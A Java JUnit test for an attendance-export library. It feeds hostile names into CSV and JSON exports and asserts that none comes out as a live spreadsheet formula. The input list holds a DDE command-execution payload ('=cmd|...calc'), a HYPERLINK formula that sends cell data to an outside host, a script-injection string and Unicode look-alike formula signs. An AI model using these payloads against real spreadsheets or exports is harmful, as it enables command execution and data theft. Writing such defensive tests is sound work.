package org.holdfast.export;

import static org.holdfast.session.Cast.SAM;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.TextNode;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.holdfast.attendance.Language;
import org.holdfast.json.JsonText;
import org.holdfast.session.Cast;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/// People may be called what they like. No spreadsheet runs it, and every program reads it as it was.
class HostileNamesTest {
    private static final List<String> NAMES = List.of(
            "=1+1",
            "=HYPERLINK(\"http://example.org/?\"&A1,\"Sam\")",
            "=cmd|' /C calc'!A0",
            "+1 555 0102",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "\n=1",
            "\tSam",
            "  =1",
            "\u00A0=1",
            "\u200B=1",
            "\u200F\u202E=1",
            "\uFEFF=1",
            "\u0000=1",
            "'=1",
            "''=1",
            "'\tSam",
            "\"=1",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20SUM(A1)",
            "\uFE661",
            "\u22122",
            "Sam;=1+1",
            "Sam;\"=1+1",
            "Sam; '=1",
            "Sam\t=1+1",
            "Sam\n=1+1",
            "Sam\r\n@x;;=2\n\n-3",
            "Sam, \"the man\", P.",
            "\"",
            "\"\"\",",
            ",",
            ";",
            "'",
            "O'Neil",
            "Ana-Mar\u00EDa",
            "a=b",
            "50 - 3",
            "<script>alert(1)</script>",
            "\u202EmaS\u202C",
            "\u05E9\u05DE\u05D5\u05D0\u05DC",
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 Sam",
            "{about} {by} $1 \\",
            "x".repeat(200),
            "=".repeat(200),
            "");

    private static final String SIGNS = "=+-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B\u2212";
    private static final Pattern UNSEEN = Pattern.compile("^[\\p{Z}\\p{Cf}\\p{Cc}\"]+");

    private static Source called(String name) {
        var meeting = Sessions.corrected();
        return new Source(
                meeting.entries(),
                member -> member.equals(SAM) ? name : Cast.name(member),
                Language.ENGLISH,
                null,
                meeting.now());
    }

    @TestFactory
    Stream<DynamicTest> whatever_sam_is_called_it_is_read_back_and_is_no_formula() {
        return NAMES.stream()
                .map(name -> DynamicTest.dynamicTest(JsonText.print(TextNode.valueOf(name)), () -> {
                    var source = called(name);
                    for (var export : List.of(
                            Export.sheetAsCsv(source),
                            Export.timelineAsCsv(source).marked())) {
                        harmless(export);
                    }
                    var rows = Read.of(Export.sheetAsCsv(source)).below("Person");
                    var sam = rows.stream()
                            .filter(row -> row.get(1).equals("sam"))
                            .findFirst();
                    assertEquals(name, Read.unguarded(sam.orElseThrow().getFirst()));
                    var json = JsonText.parse(Export.sheetAsJson(source).text());
                    assertTrue(json.path("sheet")
                            .path("rows")
                            .findValuesAsText("name")
                            .contains(name));
                }));
    }

    private static void harmless(Export export) {
        for (var line : Read.of(export).lines()) {
            for (var cell : line) assertFalse(isFormula(cell), () -> "A formula: " + cell);
            for (var cell : line) {
                assertFalse(cell.startsWith("\t") || cell.startsWith("\r") || cell.startsWith("\n"), cell);
            }
        }
        // As a program takes it that splits by something else, and for which our quotes are words.
        for (var piece : export.text().split("[;\\t\\r\\n]")) assertFalse(isFormula(piece), () -> "Formula: " + piece);
    }

    private static boolean isFormula(String cell) {
        var seen = UNSEEN.matcher(cell).replaceFirst("");
        return !seen.isEmpty() && SIGNS.indexOf(seen.charAt(0)) >= 0;
    }

    @Test
    void a_name_that_is_only_a_name_is_left_as_it_is() {
        for (var name : List.of("Sam P.", "O'Neil", "Ana-Mar\u00EDa", "a=b", "Sam, \"the man\"", "50 - 3")) {
            assertEquals(name, Cell.words(name));
        }
    }
}
